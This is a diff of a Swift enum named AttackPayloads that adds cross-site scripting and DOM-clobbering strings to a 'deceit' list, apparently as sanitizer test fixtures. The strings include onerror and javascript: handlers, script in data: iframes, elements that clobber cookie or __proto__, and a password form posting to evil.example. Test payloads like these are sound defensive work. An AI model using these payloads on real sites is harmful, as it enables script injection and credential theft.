@@ -164,6 +164,16 @@ enum AttackPayloads {
   ]
 
   static let deceit = [
+    #"<p id=body><a id=documentElement name=cookie href=#body>x</a><img id=createElement src=a>"#,
+    #"<a id=rows><a id=rows name=innerHTML href="cid:<img src=x onerror=alert(1)>">x</a>"#,
+    ##"<p id='e-"><img src=x onerror=alert(1)>'>x</p><a href='#e-"><img src=x onerror=alert(1)>'>x</a>"##,
+    ##"<a name="&#10;javascript:alert(1)">x</a><a href="#&#10;javascript:alert(1)">x</a><a href="#javascript:alert(1)">"##,
+    #"<form id=entry><input id=attributes><output id=parentNode name=e-></form><p id="e42-x">x</p><p id=__proto__>x</p>"#,
+    #"<iframe src="https://evil.example/"onload=alert(1)" title="</a><img src=x onerror=alert(1)>"></iframe>"#,
+    #"<iframe src="data:text/html,<script>alert(1)</script>" title=x></iframe><iframe src="//[::1]/" title=y></iframe>"#,
+    #"<object data="https://evil.example/<img src=x onerror=alert(1)>" title="<b>"><a class=frame href=javascript:x>y</a>"#,
+    #"<a class=frame href="javascript:alert(1)">x</a><a class="frame x" href="https://e.example/" onclick=x>y</a>"#,
+    #"<map name=body><area href="javascript:alert(1)" alt="x"><area href="https://e.example/" alt="<script>"></map>"#,
     #"<form action=//evil.example><input name=password type=password><input type=image src=x></form>"#,
     #"<div id=app class=modal style="position:fixed;inset:0">x</div><a name=body id=cookie>x</a>"#,
     #"<img name=getElementById src=a><form id=x><input name=attributes></form>"#,
